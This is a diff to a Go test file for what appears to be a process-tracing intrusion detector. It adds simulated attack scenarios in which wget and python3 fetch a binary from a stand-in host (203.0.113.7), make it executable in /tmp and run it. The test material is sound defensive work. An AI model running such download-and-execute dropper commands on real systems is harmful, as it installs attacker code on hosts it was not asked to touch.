@@ -42,6 +42,21 @@ func stories() map[string]*detecttest.Story {
 	s.Exec(sh, "/dev/shm/a", detecttest.From(bollwerk.OriginCreated))
 	m["attack-command-line-only"] = s
 
+	// What tracing tells of /tmp: nothing until the file can be executed.
+	s, sh = begin()
+	w2 := s.Exec(sh, "/usr/bin/wget -q http://203.0.113.7/bins/mips", func(p *bollwerk.Process) { p.Cwd = "/tmp" })
+	s.Connect(w2, "203.0.113.7:80")
+	s.Chmod(s.Exec(sh, "/usr/bin/chmod 777 mips"), "/tmp/mips", 0o777, 506)
+	s.Exec(sh, "/tmp/mips", detecttest.From(bollwerk.OriginCreated))
+	m["attack-wget-into-tmp"] = s
+
+	s, sh = begin()
+	py := s.Exec(sh, "/usr/bin/python3.11=python3 -c 'import x'")
+	s.Connect(py, "203.0.113.7:80")
+	s.Chmod(py, "/tmp/.y", 0o700, 507)
+	s.Exec(py, "/tmp/.y", detecttest.From(bollwerk.OriginCreated))
+	m["attack-python-into-tmp"] = s
+
 	s, sh = begin()
 	f := s.Fork(sh)
 	s.Write(f, "/tmp/run.sh", 503)
